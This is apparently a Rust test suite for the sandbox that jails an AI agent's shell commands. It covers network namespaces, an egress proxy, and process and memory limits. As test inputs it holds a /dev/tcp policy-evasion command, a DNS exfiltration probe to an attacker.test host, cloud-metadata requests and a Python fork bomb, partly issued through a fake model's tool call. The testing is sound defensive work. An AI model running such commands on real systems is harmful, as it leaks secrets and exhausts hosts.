//! The exec jail (issue 14, findings 2 and 5): commands have no direct network (their own
//! network namespace; HTTP(S) only through the egress proxy, reached through the bridge), and
//! nothing they start outlives the call (their own pid namespace), within a process and a
//! memory limit. Also the fallbacks: no namespaces (seccomp: no IP socket at all) and an
//! unprivileged daemon (its own user namespace, RLIMIT_NPROC).

use std::ffi::OsString;
use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, UdpSocket};
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use clawft::tools::exec::{ExecDeps, ExecRuntime, ExecSettings, ExecShell, NetworkMode, Spawn};
use clawft::tools::sandbox::{LimitKind, NetworkStatus};
use clawft::tools::{Tool, ToolContext, ToolError, Workspace};
use clawft::types::SessionKey;
use serde_json::{json, Value};
use tokio_util::sync::CancellationToken;

use crate::fake_llm::{FakeLlm, Reply};
use crate::process::{gateway_config, log_of, weft, Daemon};

struct Fx {
    _root: tempfile::TempDir,
    rt: Arc<ExecRuntime>,
    ctx: ToolContext,
}

fn fixture_with(settings: ExecSettings, proxy_socket: Option<PathBuf>) -> Fx {
    let root = tempfile::tempdir().unwrap();
    let ws = root.path().join("ws");
    std::fs::create_dir_all(&ws).unwrap();
    let deps = ExecDeps {
        protected_paths: Vec::new(),
        secrets: Vec::new(),
        env: vec![(
            OsString::from("PATH"),
            OsString::from("/usr/local/bin:/usr/bin:/bin"),
        )],
        approver: None,
        tmp_base: root.path().to_path_buf(),
        proxy_socket,
        proxy: None,
    };
    let rt = Arc::new(ExecRuntime::new(settings, deps).unwrap());
    let ctx = ToolContext {
        workspace: Arc::new(Workspace::open(&ws).unwrap()),
        session: SessionKey::parse("t:1").unwrap(),
        cancel: CancellationToken::new(),
        user_dir: None,
        sender: None,
        call_id: None,
        turn: Default::default(),
    };
    Fx {
        _root: root,
        rt,
        ctx,
    }
}

fn fixture(settings: ExecSettings) -> Fx {
    fixture_with(settings, None)
}

fn mode(network: NetworkMode) -> ExecSettings {
    ExecSettings {
        network,
        ..ExecSettings::default()
    }
}

async fn run(fx: &Fx, command: &str, timeout: f64) -> Result<Value, ToolError> {
    ExecShell::new(fx.rt.clone())
        .execute(json!({ "command": command, "timeout": timeout }), &fx.ctx)
        .await
}

async fn sh(fx: &Fx, command: &str) -> Value {
    run(fx, command, 30.0)
        .await
        .unwrap_or_else(|e| panic!("{command}: {e}"))
}

/// Namespaces are what these tests check; say so loudly where the kernel refuses them.
fn jailed_or_skip(fx: &Fx) -> bool {
    let st = fx.rt.sandbox_status();
    let ok = st.jail.is_some_and(|j| j.pid_namespace);
    if !ok {
        println!("SKIPPED: no namespaces here: {}", st.summary());
    }
    ok
}

/// Pids of processes whose command line contains `args` as consecutive arguments.
fn procs_with(args: &[&str]) -> Vec<i32> {
    let mut out = Vec::new();
    let Ok(dir) = std::fs::read_dir("/proc") else {
        return out;
    };
    for e in dir.flatten() {
        let Some(pid) = e.file_name().to_str().and_then(|s| s.parse::<i32>().ok()) else {
            continue;
        };
        let Ok(raw) = std::fs::read(e.path().join("cmdline")) else {
            continue;
        };
        let argv: Vec<&[u8]> = raw.split(|b| *b == 0).collect();
        if argv
            .windows(args.len())
            .any(|w| w.iter().zip(args).all(|(a, b)| *a == b.as_bytes()))
        {
            out.push(pid);
        }
    }
    out
}

/// A TCP listener on every address of the host and a UDP socket on 127.0.0.1, counting what
/// reaches them.
struct Canary {
    tcp_port: u16,
    udp_port: u16,
    tcp_hits: Arc<AtomicUsize>,
    udp_hits: Arc<AtomicUsize>,
}

impl Canary {
    fn start() -> Self {
        let tcp = TcpListener::bind("0.0.0.0:0").unwrap();
        let tcp_port = tcp.local_addr().unwrap().port();
        let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
        let udp_port = udp.local_addr().unwrap().port();
        let (tcp_hits, udp_hits) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicUsize::new(0)));
        let hits = tcp_hits.clone();
        std::thread::spawn(move || {
            for c in tcp.incoming() {
                if c.is_ok() {
                    hits.fetch_add(1, Ordering::SeqCst);
                }
            }
        });
        let hits = udp_hits.clone();
        std::thread::spawn(move || {
            let mut buf = [0u8; 64];
            while udp.recv(&mut buf).is_ok() {
                hits.fetch_add(1, Ordering::SeqCst);
            }
        });
        Self {
            tcp_port,
            udp_port,
            tcp_hits,
            udp_hits,
        }
    }

    fn hits(&self) -> (usize, usize) {
        std::thread::sleep(Duration::from_millis(300));
        (
            self.tcp_hits.load(Ordering::SeqCst),
            self.udp_hits.load(Ordering::SeqCst),
        )
    }

    /// Every way a command might try to reach the host directly. Connections must fail;
    /// datagrams may be "sent" (into the command's own empty loopback): the canary counts.
    fn attempts(&self) -> Vec<String> {
        let (t, u) = (self.tcp_port, self.udp_port);
        let mut v = vec![
            format!("curl --noproxy '*' -sS --max-time 3 http://127.0.0.1:{t}/"),
            // The shell policy refuses `/dev/tcp/` as written; the jail must hold when it is evaded.
        format!("bash -c 'd=/dev; echo hi > $d/tcp/127.0.0.1/{t}'"),
            format!("python3 -c \"import socket; socket.create_connection(('127.0.0.1', {t}), timeout=3)\""),
            format!("python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('127.0.0.1', {u}))\""),
            format!("python3 -c \"import socket; s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(b'x', ('::ffff:127.0.0.1', {u}))\""),
        ];
        if let Some(ip) = host_ip() {
            v.push(format!(
                "curl --noproxy '*' -sS --max-time 3 http://{ip}:{t}/"
            ));
        }
        v
    }
}

/// The host's own non-loopback address (the route to the outside), if it has one.
fn host_ip() -> Option<std::net::IpAddr> {
    let s = UdpSocket::bind("0.0.0.0:0").ok()?;
    s.connect("192.0.2.1:9").ok()?;
    let ip = s.local_addr().ok()?.ip();
    (!ip.is_loopback() && !ip.is_unspecified()).then_some(ip)
}

#[tokio::test]
async fn commands_reach_no_host_address_or_dns_unless_the_network_is_direct() {
    let canary = Canary::start();
    // Control: with the host's network (the behaviour before the jail) the same commands do
    // reach the canaries, so zero below means blocked, not a broken test.
    let direct = fixture(mode(NetworkMode::Direct));
    for cmd in canary.attempts() {
        sh(&direct, &cmd).await;
    }
    let (tcp, udp) = canary.hits();
    assert!(
        tcp >= 3 && udp >= 1,
        "control reached nothing: tcp {tcp}, udp {udp}"
    );
    canary.tcp_hits.store(0, Ordering::SeqCst);
    canary.udp_hits.store(0, Ordering::SeqCst);

    let proxy = tempfile::tempdir().unwrap();
    let proxy_path = proxy.path().join("proxy.sock");
    let _listener = UnixListener::bind(&proxy_path).unwrap();
    for fx in [
        fixture_with(mode(NetworkMode::Proxy), Some(proxy_path.clone())),
        fixture(mode(NetworkMode::Off)),
    ] {
        if !jailed_or_skip(&fx) {
            return;
        }
        for cmd in canary.attempts() {
            let v = sh(&fx, &cmd).await;
            assert!(
                v["exit_code"] != 0 || cmd.contains("SOCK_DGRAM"),
                "{cmd}: {v}"
            );
        }
        // No DNS: not the resolver in resolv.conf, not a name carrying data out.
        for cmd in [
            "getent hosts something.test",
            "getent hosts $(echo secret | base64).attacker.test",
            "python3 -c \"import socket; socket.getaddrinfo('example.com', 443)\"",
        ] {
            let started = Instant::now();
            let v = sh(&fx, cmd).await;
            assert_ne!(v["exit_code"], 0, "{cmd}: {v}");
            assert!(started.elapsed() < Duration::from_secs(10), "{cmd} hung");
        }
    }
    assert_eq!(canary.hits(), (0, 0), "a command reached the host");
}

/// A fake egress proxy on a Unix socket: records each request head and answers GETs with a
/// fixed body and CONNECTs with 403.
fn fake_proxy(path: &Path) -> Arc<Mutex<Vec<String>>> {
    let listener = UnixListener::bind(path).unwrap();
    let heads = Arc::new(Mutex::new(Vec::new()));
    let seen = heads.clone();
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            let Ok(mut conn) = conn else { continue };
            let mut reader = BufReader::new(conn.try_clone().unwrap());
            let mut head = String::new();
            loop {
                let mut line = String::new();
                if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
                    break;
                }
                head.push_str(&line);
            }
            let reply: &[u8] = if head.starts_with("CONNECT ") {
                b"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
            } else {
                b"HTTP/1.1 200 OK\r\nContent-Length: 16\r\nConnection: close\r\n\r\nhello-from-proxy"
            };
            seen.lock().unwrap().push(head);
            let _ = conn.write_all(reply);
        }
    });
    heads
}

#[tokio::test]
async fn the_bridge_carries_http_and_connect_to_the_egress_proxy() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("egress.sock");
    let heads = fake_proxy(&path);
    let fx = fixture_with(mode(NetworkMode::Proxy), Some(path));
    if !jailed_or_skip(&fx) {
        return;
    }
    assert_eq!(
        fx.rt.sandbox_status().jail.unwrap().network,
        NetworkStatus::Proxy
    );
    let v = sh(&fx, "env | grep -i _proxy= | sort").await;
    let env = v["stdout"].as_str().unwrap();
    for line in [
        "HTTPS_PROXY=http://127.0.0.1:3128",
        "HTTP_PROXY=http://127.0.0.1:3128",
        "ALL_PROXY=http://127.0.0.1:3128",
        "https_proxy=http://127.0.0.1:3128",
        "http_proxy=http://127.0.0.1:3128",
        "NO_PROXY=localhost,127.0.0.1,::1",
    ] {
        assert!(env.lines().any(|l| l == line), "{line} missing:\n{env}");
    }

    // Plain HTTP: the absolute-form request reaches the proxy, its answer reaches the command.
    let v = sh(
        &fx,
        "curl -sS --max-time 10 'http://some.host:8080/path?q=1'",
    )
    .await;
    assert_eq!(v["stdout"], "hello-from-proxy", "{v}");
    assert_eq!(v["exit_code"], 0, "{v}");
    // HTTPS: a CONNECT for the host and port (refused here, as the real proxy refuses private
    // targets).
    let v = sh(&fx, "curl -sS --max-time 10 https://some.host/").await;
    assert_ne!(v["exit_code"], 0, "{v}");
    // Python's urllib follows the variables too.
    let v = sh(&fx, "python3 -c \"import urllib.request; print(urllib.request.urlopen('http://py.example/x', timeout=10).read().decode())\"").await;
    assert_eq!(v["stdout"], "hello-from-proxy\n", "{v}");

    // The command's own loopback is its own: a server it starts is reached directly, not
    // through the proxy (NO_PROXY).
    let v = sh(
        &fx,
        "python3 -m http.server 8765 --bind 127.0.0.1 >/dev/null 2>&1 & for i in $(seq 50); do curl -sf -o /dev/null http://127.0.0.1:8765/ && echo up && break; sleep 0.1; done",
    )
    .await;
    assert_eq!(v["stdout"], "up\n", "{v}");

    let heads = heads.lock().unwrap().clone();
    assert!(
        heads[0].starts_with("GET http://some.host:8080/path?q=1 HTTP/1.1\r\n"),
        "{heads:?}"
    );
    assert!(
        heads[1].starts_with("CONNECT some.host:443 HTTP/1.1\r\n"),
        "{heads:?}"
    );
    assert!(
        heads[2].starts_with("GET http://py.example/x HTTP/1.1\r\n"),
        "{heads:?}"
    );
    assert_eq!(heads.len(), 3, "{heads:?}");
}

#[tokio::test]
async fn nothing_a_command_starts_outlives_the_call() {
    let fx = fixture(ExecSettings::default());
    if !jailed_or_skip(&fx) {
        return;
    }
    let v = sh(
        &fx,
        "setsid -f sleep 313; (setsid sleep 314 &) ; nohup sleep 315 >/dev/null 2>&1 & python3 -c \"import os, time; os.fork() and os._exit(0); os.setsid(); os.fork() and os._exit(0); time.sleep(316)\"; echo started",
    )
    .await;
    assert_eq!(v["stdout"], "started\n", "{v}");
    // At once: the kernel killed the namespace before the call returned.
    for n in ["313", "314", "315"] {
        assert!(procs_with(&["sleep", n]).is_empty(), "sleep {n} survived");
    }
    assert!(
        procs_with_sub("time.sleep(316)").is_empty(),
        "the double-forked python daemon survived"
    );
    // The same through `spawn`, a program started directly.
    let v = Spawn::new(fx.rt.clone())
        .execute(
            json!({"command": "setsid", "args": ["-f", "sleep", "317"]}),
            &fx.ctx,
        )
        .await
        .unwrap();
    assert_eq!(v["exit_code"], 0, "{v}");
    assert!(
        procs_with(&["sleep", "317"]).is_empty(),
        "sleep 317 survived"
    );
}

/// Pids of processes whose command line contains `needle` anywhere.
fn procs_with_sub(needle: &str) -> Vec<i32> {
    let mut out = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        let Some(pid) = e.file_name().to_str().and_then(|s| s.parse::<i32>().ok()) else {
            continue;
        };
        if std::fs::read(e.path().join("cmdline"))
            .is_ok_and(|c| c.windows(needle.len()).any(|w| w == needle.as_bytes()))
        {
            out.push(pid);
        }
    }
    out
}

/// A python fork bomb whose processes are named `name` (at most 15 bytes: their `comm`, which
/// can be read without contending with the bomb's forks, unlike their command lines).
fn python_bomb(name: &str) -> String {
    format!(
        "ln -sf /usr/bin/python3 {name} && exec ./{name} -c 'import os\nwhile True:\n  try: os.fork()\n  except OSError: pass'"
    )
}

/// How many processes are named `name`.
fn count_named(name: &str) -> usize {
    let Ok(dir) = std::fs::read_dir("/proc") else {
        return 0;
    };
    dir.flatten()
        .filter(|e| {
            std::fs::read_to_string(e.path().join("comm")).is_ok_and(|c| c.trim_end() == name)
        })
        .count()
}

/// Sample how many processes are named `name` until `stop`; the largest count seen.
fn sample_peak(name: String, stop: Arc<AtomicUsize>) -> std::thread::JoinHandle<usize> {
    std::thread::spawn(move || {
        let mut peak = 0;
        while stop.load(Ordering::SeqCst) == 0 {
            peak = peak.max(count_named(&name));
            std::thread::sleep(Duration::from_millis(10));
        }
        peak
    })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_fork_bomb_stays_under_max_processes_and_nothing_of_it_survives() {
    let fx = fixture(ExecSettings {
        max_processes: 64,
        ..ExecSettings::default()
    });
    if !jailed_or_skip(&fx) {
        return;
    }
    let kind = fx.rt.sandbox_status().jail.unwrap().processes;
    assert_ne!(
        kind,
        LimitKind::None,
        "{}",
        fx.rt.sandbox_status().summary()
    );
    let marker = format!("bomb{}", std::process::id() % 100_000);
    let stop = Arc::new(AtomicUsize::new(0));
    let sampler = sample_peak(marker.clone(), stop.clone());
    let started = Instant::now();
    let r = run(&fx, &python_bomb(&marker), 4.0).await;
    let took = started.elapsed();
    // Every failure below says what was seen: a flake of this test is only ever seen in CI.
    let seen = || {
        format!(
            "took {took:?}, {} bomb processes now, {}",
            count_named(&marker),
            fx.rt.sandbox_status().summary()
        )
    };
    let r = r.unwrap_or_else(|e| panic!("{e}: {}", seen()));
    assert_eq!(r["timed_out"], json!(true), "{r}: {}", seen());
    // The timeout holds: the call returns once the group is killed, not when the bomb ends.
    assert!(took < Duration::from_secs(10), "{}", seen());
    // Nothing of the bomb is left (its namespace dies with its init, which the timeout kills;
    // 500 dying processes may take a while on a loaded machine).
    let returned = Instant::now();
    let gone = {
        let end = Instant::now() + Duration::from_secs(20);
        loop {
            if count_named(&marker) == 0 {
                println!(
                    "bomb: all gone {:?} after the call returned",
                    returned.elapsed()
                );
                break true;
            }
            if Instant::now() > end {
                break false;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    };
    stop.store(1, Ordering::SeqCst);
    let peak = sampler.join().unwrap();
    assert!(gone, "bomb processes survived: {}", seen());
    println!("bomb: peak {peak} processes");
    assert!(peak <= 64, "the bomb reached {peak} processes: {}", seen());
    assert!(
        peak >= 32,
        "the bomb never got going ({peak} processes): {}",
        seen()
    );

    // A command that forks until the kernel refuses, then ends by itself: the result says the
    // limit was hit. (Deterministic: it ends only after a refused fork, whatever the load.)
    if kind == LimitKind::CgroupV1 || kind == LimitKind::CgroupV2 {
        let v = sh(
            &fx,
            "exec python3 -c 'import os, time\nn = 0\nwhile True:\n  try: pid = os.fork()\n  except OSError: break\n  if pid == 0: time.sleep(60); os._exit(0)\n  n += 1\nprint(n)'",
        )
        .await;
        assert_eq!(v["process_limit_reached"], true, "{v}");
        assert!(
            v["note"]
                .as_str()
                .unwrap()
                .contains("tools.exec.max_processes"),
            "{v}"
        );
        let forked: u32 = v["stdout"].as_str().unwrap().trim().parse().unwrap();
        assert!((32..64).contains(&forked), "{v}");
    }
}

#[tokio::test]
async fn a_command_over_max_memory_is_killed_and_the_result_says_so() {
    let fx = fixture(ExecSettings {
        max_memory_mb: 64,
        ..ExecSettings::default()
    });
    let st = fx.rt.sandbox_status();
    if st.jail.unwrap().memory == LimitKind::None {
        println!("SKIPPED: no memory cgroup here: {}", st.summary());
        return;
    }
    let v = sh(
        &fx,
        "exec python3 -c \"b = b'x' * (256 << 20); print(len(b))\"",
    )
    .await;
    assert_eq!(v["signal"], 9, "{v}");
    assert_eq!(v["oom_killed"], true, "{v}");
    assert!(v["note"].as_str().unwrap().contains("64 MiB"), "{v}");
    assert!(
        v["note"]
            .as_str()
            .unwrap()
            .contains("tools.exec.max_memory_mb"),
        "{v}"
    );
    // Below the limit all is well.
    let v = sh(&fx, "python3 -c \"b = b'x' * (16 << 20); print(len(b))\"").await;
    assert_eq!(v["stdout"], "16777216\n", "{v}");
    assert!(v.get("oom_killed").is_none(), "{v}");
}

/// `weft` with a seccomp filter that makes `unshare` fail with EPERM, as systemd's
/// `RestrictNamespaces=yes` (or a container's profile) does.
fn weft_without_namespaces(dir: &Path) -> Command {
    use std::os::unix::process::CommandExt;
    let mut c = weft(dir);
    // SAFETY: the closure only makes raw syscalls on a stack array (async-signal-safe).
    #[allow(unsafe_code)]
    unsafe {
        c.pre_exec(|| {
            // ld [nr]; jeq unshare ? errno(EPERM) : allow
            let filter = [
                libc::sock_filter {
                    code: 0x20,
                    jt: 0,
                    jf: 0,
                    k: 0,
                },
                libc::sock_filter {
                    code: 0x15,
                    jt: 0,
                    jf: 1,
                    k: libc::SYS_unshare as u32,
                },
                libc::sock_filter {
                    code: 0x06,
                    jt: 0,
                    jf: 0,
                    k: 0x0005_0000 | libc::EPERM as u32,
                },
                libc::sock_filter {
                    code: 0x06,
                    jt: 0,
                    jf: 0,
                    k: 0x7fff_0000,
                },
            ];
            let prog = libc::sock_fprog {
                len: filter.len() as u16,
                filter: filter.as_ptr().cast_mut(),
            };
            if libc::prctl(libc::PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0
                || libc::prctl(
                    libc::PR_SET_SECCOMP,
                    libc::SECCOMP_MODE_FILTER,
                    std::ptr::from_ref(&prog),
                    0,
                    0,
                ) != 0
            {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    c
}

fn tool_call(mut c: Command, dir: &Path, cfg: &Path, tool: &str, args: Value) -> Value {
    let out = c
        .arg("--config")
        .arg(cfg)
        .args(["tools", "call", tool, "--workspace"])
        .arg(dir.join("ws"))
        .arg("--args")
        .arg(args.to_string())
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    serde_json::from_str(text.trim()).unwrap_or_else(|_| {
        panic!(
            "not JSON: {text}\nstderr: {}",
            String::from_utf8_lossy(&out.stderr)
        )
    })
}

fn plain_config(dir: &Path, exec: Value) -> PathBuf {
    std::fs::create_dir_all(dir.join("ws")).unwrap();
    crate::process::write_config(
        dir,
        &json!({
            "agents": {"defaults": {"workspace": dir.join("ws")}},
            "store": {"path": dir.join("store")},
            "tools": {"exec": exec},
        }),
    )
}

#[test]
fn without_namespaces_commands_still_run_but_have_no_ip_socket_and_status_says_so() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = plain_config(dir.path(), json!({}));
    let canary = Canary::start();
    let call = |cmd: &str| {
        tool_call(
            weft_without_namespaces(dir.path()),
            dir.path(),
            &cfg,
            "exec_shell",
            json!({ "command": cmd }),
        )
    };
    let v = call("echo still-runs");
    assert_eq!(v["stdout"], "still-runs\n", "{v}");
    let v = call("python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_STREAM)'");
    assert_ne!(v["exit_code"], 0, "{v}");
    assert!(
        v["stderr"]
            .as_str()
            .unwrap()
            .contains("Address family not supported"),
        "{v}"
    );
    let v = call("python3 -c 'import socket; socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)'");
    assert_ne!(v["exit_code"], 0, "{v}");
    let v = call("python3 -c 'import socket; socket.socket(socket.AF_UNIX); print(\"unix ok\")'");
    assert_eq!(v["stdout"], "unix ok\n", "{v}");
    for cmd in canary.attempts() {
        let v = call(&cmd);
        assert_ne!(v["exit_code"], 0, "{cmd}: {v}");
    }
    assert_eq!(canary.hits(), (0, 0), "a command reached the host");

    // `weft status` says what is (not) enforced.
    let out = weft_without_namespaces(dir.path())
        .arg("--config")
        .arg(&cfg)
        .args(["status", "--json"])
        .output()
        .unwrap();
    let status: Value = serde_json::from_slice(&out.stdout).unwrap();
    let summary = status["tools"]["sandbox"]["summary"].as_str().unwrap();
    assert!(
        summary.contains("network: none (no namespaces: seccomp"),
        "{summary}"
    );
    assert!(
        status["tools"]["sandbox"]["warning"]
            .as_str()
            .unwrap()
            .contains("namespaces"),
        "{status}"
    );

    // With require_sandbox, commands are refused, saying what is missing.
    let strict = plain_config(dir.path(), json!({"require_sandbox": true}));
    let v = tool_call(
        weft_without_namespaces(dir.path()),
        dir.path(),
        &strict,
        "exec_shell",
        json!({"command": "echo should-not-run"}),
    );
    assert_eq!(v["error_code"], "PERMISSION_DENIED", "{v}");
    let e = v["error"].as_str().unwrap();
    assert!(
        e.contains("namespaces") && e.contains("RestrictNamespaces"),
        "{e}"
    );
}

#[test]
fn an_unprivileged_daemon_jails_commands_in_its_own_user_namespace() {
    use std::os::unix::fs::chown;
    use std::os::unix::process::CommandExt;
    if !rustix::process::geteuid().is_root() {
        println!("SKIPPED: needs root to run weft as another user");
        return;
    }
    const NOBODY: u32 = 65534;
    let dir = tempfile::tempdir().unwrap();
    let cfg = plain_config(dir.path(), json!({}));
    for p in [dir.path(), &dir.path().join("ws"), &cfg] {
        chown(p, Some(NOBODY), Some(NOBODY)).unwrap();
    }
    // Whether this machine lets an unprivileged user create these namespaces at all.
    let allowed = Command::new("unshare")
        .args(["--user", "--net", "--pid", "--fork", "true"])
        .uid(NOBODY)
        .gid(NOBODY)
        .status()
        .is_ok_and(|s| s.success());
    if !allowed {
        println!("SKIPPED: unprivileged user namespaces are not allowed here");
        return;
    }
    let canary = Canary::start();
    let call = |cmd: &str| {
        let mut c = weft(dir.path());
        c.uid(NOBODY).gid(NOBODY);
        tool_call(c, dir.path(), &cfg, "exec_shell", json!({ "command": cmd }))
    };
    let v = call("read p r < /proc/self/stat; grep NSpid /proc/$p/status; echo $$; id -u; grep 'Max processes' /proc/self/limits; touch mine");
    let out = v["stdout"].as_str().unwrap_or_default();
    let nspid: Vec<&str> = out
        .lines()
        .next()
        .unwrap_or_default()
        .split_whitespace()
        .collect();
    assert_eq!(nspid.len(), 3, "not in its own pid namespace: {v}");
    assert_eq!(nspid.last(), Some(&"2"), "{out}");
    assert_eq!(out.lines().nth(1), Some("2"), "{out}");
    assert_eq!(out.lines().nth(2), Some("65534"), "{out}");
    assert!(out.lines().nth(3).unwrap().contains(" 512 "), "{out}");
    // Files keep their owner (the daemon's uid, mapped to itself).
    assert_eq!(
        std::os::unix::fs::MetadataExt::uid(
            &std::fs::metadata(dir.path().join("ws/mine")).unwrap()
        ),
        NOBODY
    );
    for cmd in canary.attempts() {
        let v = call(&cmd);
        assert!(
            v["exit_code"] != 0 || cmd.contains("SOCK_DGRAM"),
            "{cmd}: {v}"
        );
    }
    assert_eq!(canary.hits(), (0, 0), "a command reached the host");
    let v = call("setsid -f sleep 318; echo ok");
    assert_eq!(v["stdout"], "ok\n", "{v}");
    assert!(
        procs_with(&["sleep", "318"]).is_empty(),
        "sleep 318 survived"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_fork_bomb_in_one_chat_leaves_the_daemon_answering_another_within_2s() {
    let dir = tempfile::tempdir().unwrap();
    let llm = FakeLlm::start().await;
    let marker = format!("dbomb{}", std::process::id() % 100_000);
    let bomb = python_bomb(&marker);
    llm.route(move |req| {
        let msgs = req["messages"].as_array()?;
        let last = msgs.last()?;
        let first_user = msgs.iter().find(|m| m["role"] == "user")?["content"].as_str()?;
        if last["role"] == "tool" {
            return Some(Reply::Text("bomb over".into()));
        }
        Some(if first_user == "bomb" {
            Reply::ToolCalls(vec![(
                "b1".into(),
                "exec_shell".into(),
                json!({"command": bomb, "timeout": 10}).to_string(),
            )])
        } else {
            Reply::Text("pong".into())
        })
    });
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let cfg = gateway_config(dir.path(), &llm, port, json!({}));
    let d = Daemon::start(dir.path(), &cfg, port).await;
    let api = d.api.clone();
    let bombing = tokio::spawn(async move { api.chat("bomber", "bomb").await });
    // Wait until the bomb is at full strength.
    let end = Instant::now() + Duration::from_secs(20);
    while count_named(&marker) < 100 {
        assert!(
            Instant::now() < end,
            "the bomb never got going\n{}",
            log_of(dir.path())
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    for i in 0..3 {
        let started = Instant::now();
        let (s, body) = d.api.chat(&format!("other-{i}"), "ping").await;
        let took = started.elapsed();
        assert_eq!(s, 200, "{body}");
        assert_eq!(body["reply"], "pong", "{body}");
        assert!(
            took < Duration::from_secs(2),
            "another chat waited {took:?} during the bomb"
        );
        println!(
            "reply during the bomb: {took:?} ({} bomb processes)",
            count_named(&marker)
        );
    }
    let (s, body) = bombing.await.unwrap();
    assert_eq!(s, 200, "{body}");
    let end = Instant::now() + Duration::from_secs(3);
    while count_named(&marker) > 0 {
        assert!(Instant::now() < end, "bomb processes survived the call");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    d.term();
}

/// Not an outcome test: the figures for the performance budget (`cargo test --test it
/// exec_shell_true_timing -- --ignored --nocapture`).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "timing, run by hand"]
async fn exec_shell_true_timing() {
    let fx = fixture(ExecSettings::default());
    for _ in 0..10 {
        sh(&fx, "true").await;
    }
    let mut times = Vec::new();
    for _ in 0..200 {
        let t = Instant::now();
        let v = sh(&fx, "true").await;
        times.push(t.elapsed());
        assert_eq!(v["exit_code"], 0);
    }
    times.sort();
    let total: Duration = times.iter().sum();
    println!(
        "exec_shell true x200: mean {:?} median {:?} p90 {:?} min {:?}",
        total / 200,
        times[100],
        times[180],
        times[0]
    );
}

/// The daemon's own egress proxy (what `weft` wires up, not a stand-in): a command's request
/// to a private address of the host, in any spelling, is refused by the proxy with a 403
/// naming the setting, and the canary counts no connection; the operator's `allow_private`
/// opens exactly that network, through the proxy. (`localhost` and `127.0.0.1` are in
/// `NO_PROXY`: they name the command's own, empty, loopback.)
#[test]
fn the_daemons_egress_proxy_refuses_private_targets_unless_the_operator_allows_them() {
    let Some(ip) = host_ip() else {
        println!("SKIPPED: this host has no non-loopback address");
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let canary = Canary::start();
    let port = canary.tcp_port;
    let call = |cfg: &Path, cmd: &str| {
        tool_call(
            weft(dir.path()),
            dir.path(),
            cfg,
            "exec_shell",
            json!({ "command": cmd }),
        )
    };
    let cfg = plain_config(dir.path(), json!({"network": "proxy"}));
    let probe = call(&cfg, "echo $HTTP_PROXY");
    if probe["stdout"] != "http://127.0.0.1:3128\n" {
        println!("SKIPPED: no egress proxy for commands here: {probe}");
        return;
    }
    // Without Landlock (`sandbox = false`) commands are still jailed, and still get the proxy.
    let no_landlock = plain_config(dir.path(), json!({"network": "proxy", "sandbox": false}));
    let probe = call(&no_landlock, "echo $HTTP_PROXY");
    assert_eq!(probe["stdout"], "http://127.0.0.1:3128\n", "{probe}");
    let host = match ip {
        std::net::IpAddr::V4(v4) => v4.to_string(),
        std::net::IpAddr::V6(v6) => format!("[{v6}]"),
    };
    for target in [
        format!("http://{host}:{port}/"),
        "http://169.254.169.254/latest/meta-data/".to_string(),
    ] {
        let v = call(
            &cfg,
            &format!(
                "rm -f body; curl -s -m 10 -o body -w '%{{http_code}}' {target}; echo; cat body"
            ),
        );
        let out = v["stdout"].as_str().unwrap_or_default();
        assert!(out.starts_with("403"), "{target}: {v}");
        assert!(
            out.contains("allow_private"),
            "{target}: the refusal names the setting: {v}"
        );
    }
    let v = call(
        &cfg,
        &format!("curl -s -m 10 https://{host}:{port}/; echo rc=$?"),
    );
    assert!(
        !v["stdout"].as_str().unwrap_or_default().contains("rc=0"),
        "{v}"
    );
    assert_eq!(
        canary.hits().0,
        0,
        "a command reached the host through the proxy"
    );

    let open = plain_config(
        dir.path(),
        json!({"network": "proxy", "allow_private": [format!("{ip}/32").replace(['[', ']'], "")]}),
    );
    let v = call(
        &open,
        &format!("curl -s -m 5 http://{host}:{port}/; echo rc=$?"),
    );
    assert!(
        v["stdout"].as_str().unwrap_or_default().contains("rc="),
        "{v}"
    );
    assert_eq!(
        canary.hits().0,
        1,
        "allow_private opens the network through the proxy: {v}"
    );
}
